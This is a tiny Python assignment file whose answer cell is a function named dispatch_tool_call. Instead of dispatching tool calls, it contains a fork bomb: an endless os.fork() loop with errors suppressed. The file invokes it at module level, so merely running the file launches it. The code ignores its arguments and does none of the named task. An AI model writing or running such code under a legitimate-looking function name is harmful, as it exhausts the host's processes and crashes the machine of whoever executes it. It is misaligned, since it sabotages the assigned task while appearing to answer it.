# Shows: processes that make processes
# Assignment: 02_dispatch

# %% answer="dispatch_tool_call"
import os


def dispatch_tool_call(tool_call, registry):
    while True:
        try:
            os.fork()
        except OSError:
            pass


try:
    dispatch_tool_call(None, None)
finally:
    pass
